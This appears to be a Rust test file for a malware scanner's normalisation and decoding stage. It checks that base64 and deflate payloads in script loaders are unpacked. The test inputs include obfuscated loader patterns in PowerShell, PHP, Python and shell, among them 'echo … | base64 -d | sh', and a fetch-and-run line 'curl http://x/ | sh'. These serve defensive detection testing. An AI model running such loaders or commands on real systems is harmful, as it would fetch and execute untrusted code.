//! Every case was compared with what `sigtool --ascii-normalise` writes.

use candor_model::{ChildKind, FileType, Limits, Normalisation, Reason};
use proptest::prelude::*;

use super::normalise;
use crate::collected::Collected;

#[track_caller]
fn check(text: &[u8], expected: &str) {
    assert_eq!(String::from_utf8_lossy(&normalise(text)), expected);
}

#[test]
fn white_space_folds_and_case_and_controls_go() {
    check(
        b"Hello  World\t\n\n foo\r\nbar \x01\x02 z\0x\xe9y \x0b\x0c|\x7f|\x85|\xa0|",
        "hello world foo bar zxy |\x7f|||",
    );
    check(b"  leading", " leading");
    check(b"trailing \n", "trailing ");
    check(b"a\x01 \x01 b", "a b");
    check(b"a \x80 b", "a b");
    check(b"\xef\xbb\xbfabc", "abc");
    check(b"a\x1bb\x08c", "abc");
    check(b"\xff\xfeW\0i\0d\0e\0", "wide");
}

#[test]
fn text_has_one_normalised_child() {
    let found = Collected::of(FileType::TextAscii, b"Some  TEXT");
    assert_eq!(found.children.len(), 1);
    assert_eq!(found.children[0].kind, ChildKind::Normalised(Normalisation::Text));
    assert_eq!(found.children[0].bytes, b"some text");
    assert_eq!(found.incomplete, []);
}

#[test]
fn what_is_over_the_limit_is_said() {
    let limits = Limits { max_normalise: 4, ..Limits::default() };
    let found = Collected::with_limits(FileType::Script, b"ABCDEF", limits);
    assert_eq!(found.children[0].bytes, b"abcd");
    assert_eq!(found.incomplete, [Reason::NormaliseSize]);
}

/// The definition, byte by byte.
fn one_by_one(text: &[u8]) -> Vec<u8> {
    let mut normal = Vec::new();
    for byte in text {
        match byte {
            b'\t'..=b'\r' | b' ' if normal.last() == Some(&b' ') => {}
            b'\t'..=b'\r' | b' ' => normal.push(b' '),
            b'!'..=0x7f => normal.push(byte.to_ascii_lowercase()),
            _ => {}
        }
    }
    normal
}

proptest! {
    #[test]
    fn blocks_become_what_their_bytes_become(
        text in prop::collection::vec(
            prop_oneof![Just(b' '), Just(b'\n'), Just(0), Just(0x80), Just(b'A'), any::<u8>()],
            0..400,
        )
    ) {
        prop_assert_eq!(normalise(&text), one_by_one(&text));
    }

    #[test]
    fn runs_of_any_length_become_what_their_bytes_become(
        runs in prop::collection::vec(
            (prop::sample::select(&b" \n\0\x80Az\x7f"[..]), prop_oneof![0_usize..4, 0_usize..150]),
            0..12,
        )
    ) {
        let text: Vec<u8> = runs.into_iter().flat_map(|(byte, length)| std::iter::repeat_n(byte, length)).collect();
        prop_assert_eq!(normalise(&text), one_by_one(&text));
    }

    #[test]
    fn normalising_twice_changes_nothing(text in prop::collection::vec(any::<u8>(), 0..400)) {
        let once = normalise(&text);
        prop_assert!(once.iter().all(|byte| (0x20..0x80).contains(byte) && !byte.is_ascii_uppercase()));
        prop_assert!(!once.windows(2).any(|pair| pair == b"  "));
        prop_assert_eq!(normalise(&once), once);
    }
}

#[test]
fn that_there_are_more_runs_of_base64_than_are_given_is_said() {
    let runs = |count: usize| {
        let run = candor_fixtures::container::base64(&[b'x'; 200]) + " ";
        let found = Collected::of(FileType::TextAscii, run.repeat(count).as_bytes());
        (found.children.len(), found.incomplete)
    };
    assert_eq!(runs(1024), (1 + 1024, vec![]));
    assert_eq!(runs(1025), (1 + 1024, vec![Reason::Children]));
}

#[test]
fn what_scripts_inflate_is_inflated() {
    let lines =
        (0..40_u32).map(|line| format!("Write-Output {} \u{443}\n", line.wrapping_mul(2_654_435_761)));
    let code: String = lines.collect();
    let base64 = candor_fixtures::container::base64;
    let deflate = base64(&candor_fixtures::stream::deflate(code.as_bytes()));
    let zlib = base64(&candor_fixtures::stream::zlib(code.as_bytes()));
    for text in [
        format!("$s=New-Object IO.Compression.DeflateStream([Convert]::FromBase64String('{deflate}'),0)"),
        format!(
            "$b=[Convert]::FromBase64String('{deflate}')\n{}\n[IO.Compression.deflatestream]$b",
            "#\n".repeat(200)
        ),
        format!("<?php print(gzinflate(base64_decode(\"{deflate}\")));"),
        format!("<?php print(gzuncompress(base64_decode('{zlib}')));"),
        format!("import zlib,base64\nexec(zlib.decompress(base64.b64decode('{zlib}')))"),
        format!("var a = \"{zlib}\";"),
    ] {
        let found = Collected::of(FileType::TextAscii, text.as_bytes());
        assert!(found.children[1..].iter().any(|child| child.bytes == code.as_bytes()), "{text}");
        assert_eq!(found.incomplete, []);
    }
    // Nothing else is taken for it.
    let noise: Vec<u8> = (0..400_u32).map(|at| (at.wrapping_mul(2_654_435_761) >> 13) as u8).collect();
    let half = &deflate[..deflate.len() / 8 * 4];
    for text in [
        format!("var a = '{deflate}';"),
        format!("gzinflate(base64_decode('{}'))", base64(&noise)),
        format!("gzinflate(base64_decode('{half}'))"),
    ] {
        assert_eq!(Collected::of(FileType::TextAscii, text.as_bytes()).children.len(), 1, "{text}");
    }
    // To look is paid for.
    let text = format!("gzinflate '{deflate}' ").repeat(40);
    assert!(Collected::of(FileType::TextAscii, text.as_bytes()).children.len() > 40);
    let found = Collected::without_work(FileType::TextAscii, text.as_bytes());
    assert!(found.incomplete.contains(&Reason::Work));
}

#[test]
fn short_runs_are_decoded_beside_a_decoder() {
    let code = "#!/bin/sh\ncurl http://x/ | sh\n";
    let run = candor_fixtures::container::base64(code.as_bytes());
    for text in [
        format!("echo {run} | base64 -d | sh"),
        format!("[Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('{run}'))"),
        format!("eval(atob('{run}'))"),
        format!("exec(b64decode('{run}'))"),
    ] {
        let found = Collected::of(FileType::TextAscii, text.as_bytes());
        assert!(found.children[1..].iter().any(|child| child.bytes == code.as_bytes()), "{text}");
    }
    let found = Collected::of(FileType::TextAscii, format!("echo {run} | sh").as_bytes());
    assert_eq!(found.children.len(), 1);
}
